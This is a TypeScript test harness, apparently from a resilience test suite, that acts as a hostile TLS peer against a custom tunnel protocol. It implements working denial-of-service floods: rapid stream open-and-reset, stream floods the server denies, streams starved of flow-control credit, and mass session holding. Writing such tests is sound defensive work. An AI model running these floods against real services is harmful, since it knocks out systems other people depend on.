/**
 * A peer with a certificate of its own that misbehaves, as a program: `attacker.ts OPTIONS`, JSON of {@link Task}.
 *
 * Written from docs/tunnel-protocol.md, with none of the code under test. It says "attacking" when it has begun, goes
 * on until SIGTERM and then says what it did as one line of JSON. Its load is bounded: what it costs by itself is what
 * the burner beside the control run costs.
 */
import { readFileSync } from 'node:fs'
import { setTimeout as delay } from 'node:timers/promises'
import { connect, type TLSSocket } from 'node:tls'

import type { AttackMode } from './attack.ts'

/** What to do where. */
export interface Task {
  readonly mode: AttackMode
  readonly host: string
  readonly port: number
  readonly serverName: string
  readonly certificate: string
  readonly key: string
}

/** Streams a second that are opened to be reset or denied. */
const STREAMS_PER_SECOND = 5_000

/** Streams a session that are never given credit, and sessions of them. */
const STREAMS_WITHOUT_CREDIT = 250
const SESSIONS_WITHOUT_CREDIT = 4

/** Sessions that are held open, and how many are dialed anew each second. */
const SESSIONS = 200
const SESSIONS_PER_SECOND = 50

const DATA = 0
const WINDOW = 1
const PING = 2
const SYN = 1
const ACK = 2
const RST = 8
const HEADER_BYTES = 12
const ABORTED = 6

/** The preface of a stream that says nothing of its origin. */
const PREFACE = Buffer.from('0d0a0d0a000d0a515549540a20000000', 'hex')

/** Far more than a stream's first credit. */
const REQUEST = Buffer.from('GET /bulk HTTP/1.1\r\nHost: other\r\n\r\n')

const task = JSON.parse(process.argv[2] ?? '') as Task
const files = { cert: readFileSync(task.certificate), key: readFileSync(task.key) }
const counts = { sessions: 0, refusedSessions: 0, streams: 0, resets: 0 }
const over = new AbortController()

/** Whether there is a session to go on with. */
function goesOn(socket: TLSSocket | undefined): boolean {
  return socket?.destroyed === false && !over.signal.aborted
}

function header(type: number, flags: number, id: number, length: number): Buffer {
  const bytes = Buffer.alloc(HEADER_BYTES)
  bytes[1] = type
  bytes.writeUInt16BE(flags, 2)
  bytes.writeUInt32BE(id, 4)
  bytes.writeUInt32BE(length, 8)
  return bytes
}

function open(id: number, payload: Buffer): Buffer {
  counts.streams += 1
  return Buffer.concat([header(DATA, SYN, id, payload.length), payload])
}

function dial(): Promise<TLSSocket | undefined> {
  return new Promise((resolve) => {
    const socket = connect({
      ...files,
      host: task.host,
      port: task.port,
      servername: task.serverName,
      ALPNProtocols: ['hostmesh/1'],
      rejectUnauthorized: false,
    })
    socket.once('secureConnect', () => {
      counts.sessions += 1
      read(socket)
      resolve(socket)
    })
    socket.once('close', () => resolve(undefined))
    socket.on('error', () => {
      counts.refusedSessions += 1
    })
  })
}

/** Reads what comes, answers pings, counts resets; gives no credit. */
function read(socket: TLSSocket): void {
  let rest: Buffer = Buffer.alloc(0)
  socket.on('data', (chunk: Buffer) => {
    rest = rest.length === 0 ? chunk : Buffer.concat([rest, chunk])
    let at = 0
    while (rest.length - at >= HEADER_BYTES) {
      const [type, flags] = [rest[at + 1], rest.readUInt16BE(at + 2)]
      const length = rest.readUInt32BE(at + 8)
      const payloadBytes = type === DATA ? length : 0
      if (rest.length - at < HEADER_BYTES + payloadBytes) break
      if (type === PING && (flags & ACK) === 0) socket.write(header(PING, ACK, 0, length))
      if ((flags & RST) !== 0) counts.resets += 1
      at += HEADER_BYTES + payloadBytes
    }
    rest = Buffer.from(rest.subarray(at))
  })
}

/** Opens streams at the rate, in one session; anew where that one is ended. */
async function openStreams(isReset: boolean): Promise<void> {
  while (!over.signal.aborted) {
    const socket = await dial()
    const beganMs = performance.now()
    for (let sent = 0; goesOn(socket); ) {
      const due = Math.floor(((performance.now() - beganMs) / 1_000) * STREAMS_PER_SECOND)
      const parts: Buffer[] = []
      for (; sent < due; sent += 1) {
        const id = 2 * sent + 1
        parts.push(open(id, PREFACE))
        if (isReset) parts.push(header(WINDOW, RST, id, ABORTED))
      }
      socket?.write(Buffer.concat(parts))
      await delay(5)
    }
    socket?.destroy()
    await delay(50)
  }
}

/** Asks for much on many streams and never gives credit. */
async function askWithoutCredit(): Promise<void> {
  while (!over.signal.aborted) {
    const socket = await dial()
    for (let i = 0; i < STREAMS_WITHOUT_CREDIT && goesOn(socket); i += 1) {
      socket?.write(open(2 * i + 1, Buffer.concat([PREFACE, REQUEST])))
      if (i % 25 === 24) await delay(20)
    }
    while (goesOn(socket)) await delay(100)
    socket?.destroy()
    await delay(50)
  }
}

/** Holds as many sessions as it is let, and dials those anew that are ended. */
async function holdSessions(): Promise<void> {
  const held = new Set<TLSSocket>()
  while (!over.signal.aborted) {
    for (const socket of held) if (socket.destroyed) held.delete(socket)
    const socket = held.size < SESSIONS ? await dial() : undefined
    if (socket !== undefined) held.add(socket)
    await delay(1_000 / SESSIONS_PER_SECOND)
  }
  for (const socket of held) socket.destroy()
}

const attacks: Readonly<Record<AttackMode, () => Promise<unknown>>> = {
  openreset: () => openStreams(true),
  'open-denied': () => openStreams(false),
  zerowindow: () => Promise.all(Array.from({ length: SESSIONS_WITHOUT_CREDIT }, askWithoutCredit)),
  sessions: holdSessions,
}

process.on('SIGTERM', () => {
  over.abort()
})
const running = attacks[task.mode]()
while (counts.sessions === 0 && !over.signal.aborted) await delay(20)
process.stdout.write('attacking\n')
await running
process.stdout.write(`${JSON.stringify(counts)}\n`)
process.exit(0)
